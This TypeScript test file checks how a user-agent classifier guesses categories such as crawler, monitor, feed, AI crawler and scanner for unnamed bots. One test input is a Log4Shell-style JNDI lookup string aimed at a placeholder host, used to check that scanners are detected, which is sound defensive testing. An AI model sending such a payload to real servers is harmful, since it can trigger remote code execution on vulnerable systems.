// The category guessed for a bot that no table names, from the words of its user agent (`guess.ts`),
// through the classifier that asks for it: only for bots that isbot's generic patterns catch.
import { describe, expect, it } from 'vitest';
import { classifyUserAgent } from './classify.js';

describe('category hints', () => {
  it.each([
    ['Mozilla/5.0 (compatible; SomeUnknownCrawler/1.0; +http://example.com/bot)', 'crawler'],
    ['Acme Uptime Monitor/2.0', 'monitor'],
    ['zz-feed-fetcher/1.0 (3 subscribers)', 'feed'],
    ['${jndi:ldap://x.example/a}', 'scanner'],
    ['Qzxv/1.0', 'other-bot'],
    ['Qzxv', 'other-bot'],
    // An info page, a contact address or the `(compatible; Name)` slot, and nothing else said:
    // introduced the way crawlers are.
    ['Mozilla/5.0 (compatible; Qzxv/1.0)', 'crawler'],
    ['Research JLU', 'crawler'],
    ['StudyBot/1.0 (Research Purposes)', 'crawler'],
    ['Qzxv/1.0 (+https://qzxv.ai/)', 'ai-crawler'],
    ['QzxvMonit_bot_1.0', 'monitor'],
    ['Qzxvseo/1.0', 'other-bot'],
    ['Seoqzxv/1.0', 'seo'],
    ['QzxvProbe/1.1', 'security-monitor'],
    // A word that other bots' names contain is not the name of an AI crawler.
    ['New-Qzxv-Spider/1.0 (compatible; MSIE 5.5; Windows 98)', 'search-engine'],
    ['Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.0; qzxv Transcoder;)', 'other-bot'],
    ['Zqxv/0.1 (http://www.example.org/zqxv)', 'crawler'],
    ['Mozilla/5.0 (compatible; Qzxv/1.0; +https://qzxv.example)', 'crawler'],
    ['qzxv@example.org/1', 'crawler'],
    // A scanner's or a monitor's own words still win over its address.
    ['Qzxv Uptime Monitor/2.0 (+https://qzxv.example)', 'monitor'],
    // A web filter's categorisation crawler, even from a security vendor's address.
    ['Qzxv/1.0 (URL categorization; https://security.qzxv.example)', 'crawler'],
    ['Qzxv/1.0 (https://security.qzxv.example)', 'security-monitor'],
    // `feed` but not `feedback`; an ad network's name before the word `feed` in it.
    ['Qzxv-Feedback-Collector/1.0 (+https://qzxv.example)', 'crawler'],
    ['QzxvFeed/1.0', 'feed'],
    ['Qzxv AdSenseInfeed/1.0', 'advertising'],
    // Domain control validation spelled out.
    ['Qzxv Domain Verification', 'preview'],
    // A university's address says academic research.
    [
      'Mozilla/5.0 (X11; Linux x86_64; rv:80.0) Gecko/20100101 Firefox/80.0 ' +
        'QzxvMeasurement/2024 (lab; at; cs.example.edu;)',
      'crawler',
    ],
    // Only the first 2 KiB are read: a word after them says nothing.
    [`QzxvBot/1.0 (${'x'.repeat(2100)} URL categorization)`, 'crawler'],
    [`Qzxv-AdSense-Bot/1.0 ${'x'.repeat(2100)} feed`, 'advertising'],
  ])('guesses the category of a bot no table names from its words: %s', (ua, category) => {
    const result = classifyUserAgent(ua);
    expect(result.isBot).toBe(true);
    expect(result.category).toBe(category);
    expect(typeof result.name).toBe('string');
  });
});
